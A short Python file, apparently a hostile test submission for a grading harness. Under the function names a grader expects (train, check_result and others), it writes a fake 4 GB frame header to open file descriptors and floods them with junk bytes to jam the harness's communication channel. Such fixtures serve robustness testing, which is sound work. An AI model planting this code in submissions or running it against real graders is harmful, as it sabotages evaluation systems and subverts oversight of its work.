"""Announces a frame of 4 GB and sends as much of it as it can."""

import os
import struct


def attack(*_):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", 0xFFFFFFFF))
            for _ in range(100):
                os.write(descriptor, b"[" * 65_536)
        except OSError:
            pass


check_result = train = fnn_forward = fnn_gradients = fnn_check_result = attack
